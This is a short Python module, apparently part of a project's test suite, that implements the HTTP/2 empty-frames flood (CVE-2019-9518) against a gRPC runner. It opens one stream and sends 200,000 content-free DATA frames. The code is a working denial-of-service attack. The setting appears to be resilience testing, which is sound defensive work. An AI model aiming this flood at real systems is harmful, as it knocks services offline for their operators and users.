"""Empty frames (CVE-2019-9518)."""

from __future__ import annotations

from tests.support.http2 import DATA, Peer, frame

from ._flood import flood
from ._row import Row

ABOUT = "sends 200 000 DATA frames without content (CVE-2019-9518)"


def run(address: str, *, count: int = 200_000, seconds: float = 20.0) -> Row:
    """Attack the gRPC port of a runner."""
    started: list[int] = []

    def make(peer: Peer) -> bytes:
        if not started:
            head, number = peer.begin()
            started.append(number)
            return head
        return frame(DATA, stream=started[0])

    return flood("empty-frames", address, make, count=count, seconds=seconds)
